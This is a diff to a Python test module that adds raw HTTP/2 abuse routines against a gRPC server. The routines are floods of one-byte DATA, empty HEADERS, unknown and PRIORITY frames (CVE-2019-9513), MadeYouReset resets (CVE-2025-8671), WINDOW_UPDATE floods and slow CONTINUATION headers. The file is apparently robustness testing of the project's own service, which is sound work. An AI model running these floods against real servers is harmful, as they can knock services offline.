@@ -23,6 +23,7 @@ from tests.attacks.raw_http2 import (
     HEADERS,
     PING,
     PREFACE,
+    PRIORITY,
     RST_STREAM,
     SETTINGS,
     Header,
@@ -31,9 +32,11 @@ from tests.attacks.raw_http2 import (
     frame,
     header_block,
     message,
+    window_update,
 )
 
-PING_PATH, STREAM_PATH = "/RS.RemSvc/Ping", "/RS.RemSvc/RemCmdStrm"
+PING_PATH, STREAM_PATH, COMMAND_PATH = "/RS.RemSvc/Ping", "/RS.RemSvc/RemCmdStrm", "/RS.RemSvc/RemCmd"
+WATCH_PATH = "/grpc.health.v1.Health/Watch"
 _NO_WINDOW = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
 
 
@@ -245,6 +248,67 @@ def deaf_readers(target: Target) -> Iterator[int]:
     yield from _hold(target, begin, most=50)
 
 
+def one_byte_data(target: Target) -> Iterator[int]:
+    """A long message that comes byte by byte, each in a frame of its own."""
+    begin = frame(HEADERS, END_HEADERS, 1, header_block(target.headers(STREAM_PATH)))
+    yield from _flood(
+        target, lambda stream: frame(DATA, 0, 1, b"\0"), begin + frame(DATA, 0, 1, message(claimed=10**6))
+    )
+
+
+def empty_headers(target: Target) -> Iterator[int]:
+    """Headers that say nothing."""
+    yield from _flood(target, lambda stream: frame(HEADERS, END_HEADERS, stream))
+
+
+def made_you_reset(target: Target) -> Iterator[int]:
+    """Calls that begin as they should, and then make the server reset them (CVE-2025-8671)."""
+    headers = header_block(target.headers(STREAM_PATH))
+    trailers = header_block([("a", "\0")])
+
+    def call(stream: int) -> bytes:
+        return frame(HEADERS, END_HEADERS, stream, headers) + frame(
+            HEADERS, END_HEADERS | END_STREAM, stream, trailers
+        )
+
+    yield from _flood(target, call)
+
+
+def unknown_frames(target: Target) -> Iterator[int]:
+    """Frames of no kind that is known."""
+    yield from _flood(target, lambda stream: frame(0x77, 0, stream, b"x"))
+
+
+def priority_flood(target: Target) -> Iterator[int]:
+    """Streams that depend on others, without being there (CVE-2019-9513)."""
+    yield from _flood(target, lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream + 2, 9)))
+
+
+def window_update_flood(target: Target) -> Iterator[int]:
+    """Windows that are widened by one byte at a time."""
+    yield from _flood(target, lambda stream: window_update(0, 1))
+
+
+def slow_headers(target: Target) -> Iterator[int]:
+    """Connections on which headers come byte by byte, and never end."""
+    peers: list[tuple[RawPeer, Iterator[int]]] = []
+    block = header_block(target.headers(PING_PATH))
+    while True:
+        if len(peers) < 200:
+            peer = target.connect()
+            peer.greet()
+            peer.send(frame(SETTINGS, ACK, 0))
+            peers.append((peer, iter(frame(HEADERS, 0, 1, block) + frame(CONTINUATION, 0, 1, bytes(9000)))))
+        for pair in tuple(peers):
+            try:
+                pair[0].send(bytes((next(pair[1]),)))
+            except OSError:
+                pair[0].close()
+                peers.remove(pair)
+        time.sleep(0.01)
+        yield 1
+
+
 ABUSES: dict[str, Abuse] = {
     abuse.__name__: abuse
     for abuse in (
@@ -264,9 +328,27 @@ ABUSES: dict[str, Abuse] = {
         half_requests,
         idle_streams,
         deaf_readers,
+        one_byte_data,
+        empty_headers,
+        made_you_reset,
+        unknown_frames,
+        priority_flood,
+        window_update_flood,
+        slow_headers,
     )
 }
 """Every abuse by its name. Each yields how many bad inputs it has sent since it last did."""
+
+INSIDE = (
+    "rapid_reset",
+    "malformed_messages",
+    "half_requests",
+    "idle_streams",
+    "deaf_readers",
+    "one_byte_data",
+    "made_you_reset",
+)
+"""Those that are worse from a caller whose token is accepted."""
 
 
 def _hold(target: Target, begin: Callable[[RawPeer], object], most: int = 3000) -> Iterator[int]:
@@ -294,16 +376,23 @@ def _hold(target: Target, begin: Callable[[RawPeer], object], most: int = 3000) 
 
 
 def _flood(
-    target: Target, make: Callable[[int], bytes], *, batch: int = 50, answered: bool = False
+    target: Target,
+    make: Callable[[int], bytes],
+    begin: bytes = b"",
+    *,
+    batch: int = 50,
+    answered: bool = False,
 ) -> Iterator[int]:
     """Send what ``make`` makes of each stream number, on a new connection where one was closed.
 
-    ``answered``: wait for the answers to a batch before the next one.
+    ``begin``: sent before it on each connection. ``answered``: wait for the answers to a batch before the
+    next one.
     """
     while True:
         with target.connect() as peer:
             try:
                 peer.greet()
+                peer.send(frame(SETTINGS, ACK, 0), begin)
                 for first in range(1, 100_000, 2 * batch):
                     streams = range(first, first + 2 * batch, 2)
                     peer.send(*map(make, streams))
